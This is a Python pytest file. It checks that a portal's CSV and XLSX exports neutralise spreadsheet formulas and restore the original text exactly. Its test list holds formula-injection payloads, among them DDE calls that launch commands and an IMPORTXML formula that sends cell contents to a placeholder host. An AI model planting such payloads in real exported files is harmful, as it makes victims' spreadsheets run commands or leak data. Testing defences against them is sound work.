"""No text of a file becomes a formula, and each comes back as it was (G23)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from portal.files import FileKind, written
from portal.formulas import neutralise, restore
from portal.rosters.export import as_csv

FORMULAS = [
    *("=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "|x", "%x"),
    *("'=1+1", "''=1", "＝1+1", "＋1", "－1", "＠x", '=HYPERLINK("http://x")', "-2+3+cmd|x"),
    *('=IMPORTXML(CONCAT("http://x",A1),"//a")', "=WEBSERVICE(A1)", '=DDE("cmd";"/C";"x")'),
    *("@=1", "+=1", "-=1", "==1", "=\u202e1", "\t\t=1", "\r\n=1", '="1"&CHAR(9)', "-@SUM(A1)"),
]
STARTS = set("=+-@\t\r\n|%＝＋－＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_in_every_file_and_comes_back(text: str) -> None:
    lists = b"".join(written(FileKind.CSV, [[text, "101", 5, -5, None]])).decode("utf-8-sig")
    roster = as_csv([[text, "101", 5, -5, ""]]).decode()
    for file in (lists, roster):
        ((first, *others),) = csv.reader(io.StringIO(file, newline=""))
        assert (first, others) == (f"'{text}", ["101", "5", "-5", ""])
        assert restore(first) == text
    book = load_workbook(io.BytesIO(b"".join(written(FileKind.XLSX, [[text]]))))
    cell = book.worksheets[0]["A1"]
    assert cell.data_type == "s"
    assert str(cell.value).endswith(text.lstrip())  # XML writes some line breaks otherwise


@pytest.mark.parametrize("text", ["{=1+1}", "http://x/", "mailto:x", "1e5", "0010", "file://x"])
def test_a_workbook_makes_nothing_of_a_text(text: str) -> None:
    book = load_workbook(io.BytesIO(b"".join(written(FileKind.XLSX, [[text]]))))
    cell = book.worksheets[0]["A1"]
    assert (cell.data_type, cell.value, cell.hyperlink) == ("s", text, None)


@settings(deadline=None, derandomize=True, max_examples=400)
@given(st.text(max_size=12) | st.text(alphabet="'=+-@\t\r\n 1a", max_size=8))
def test_neutralising_is_undone_exactly(text: str) -> None:
    neutral = neutralise(text)
    assert restore(neutral) == text
    assert neutral[:1] not in STARTS
